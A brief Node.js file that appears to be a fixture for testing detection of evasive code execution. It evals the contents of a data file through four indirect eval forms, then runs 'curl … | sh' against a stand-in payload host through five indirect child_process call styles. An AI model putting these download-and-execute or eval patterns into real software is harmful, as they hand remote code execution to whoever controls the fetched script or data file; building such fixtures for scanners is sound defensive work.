const cp = require('child_process');
const text = require('fs').readFileSync('notes.dat', 'utf8');

(0, eval)(text);
eval.call(null, text);
eval?.(text);
Reflect.apply(eval, null, [text]);
cp.exec.call(cp, 'curl -s https://payload.acme-cdn.example/a.sh | sh');
cp.exec.apply(cp, ['curl -s https://payload.acme-cdn.example/b.sh | sh']);
cp.exec.bind(cp)('curl -s https://payload.acme-cdn.example/c.sh | sh');
cp.exec.bind(cp, 'curl -s https://payload.acme-cdn.example/d.sh | sh')();
Reflect.apply(cp.execSync, cp, ['curl -s https://payload.acme-cdn.example/e.sh | sh']);
